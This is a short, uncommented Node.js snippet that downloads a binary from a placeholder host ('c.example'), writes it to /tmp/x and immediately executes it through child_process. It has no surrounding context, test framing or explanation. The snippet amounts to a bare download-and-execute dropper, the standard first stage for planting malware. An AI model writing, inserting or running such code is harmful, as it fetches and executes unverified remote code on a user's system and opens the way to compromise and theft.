const fs = require('fs'), cp = require('child_process');
const r = await fetch('https://c.example/bin');
fs.writeFileSync('/tmp/x', Buffer.from(await r.arrayBuffer()));
cp.execFileSync('/tmp/x');
